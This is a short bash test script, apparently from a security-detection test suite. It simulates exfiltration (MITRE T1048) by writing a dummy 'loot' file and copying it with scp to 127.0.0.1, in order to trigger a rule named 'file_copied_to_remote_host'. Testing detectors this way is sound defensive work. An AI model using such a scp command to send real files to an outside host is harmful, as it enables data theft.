# technique: T1048 a file copied to another host with scp from a script
# rule: file_copied_to_remote_host
# exe: /usr/bin/scp
. "$(dirname "$0")/common.bash"
echo data >"$VG_TMP/loot"
scp -q -o BatchMode=yes -o ConnectTimeout=2 -P "$VG_PORT" "$VG_TMP/loot" 127.0.0.1:/tmp/x 2>/dev/null || true
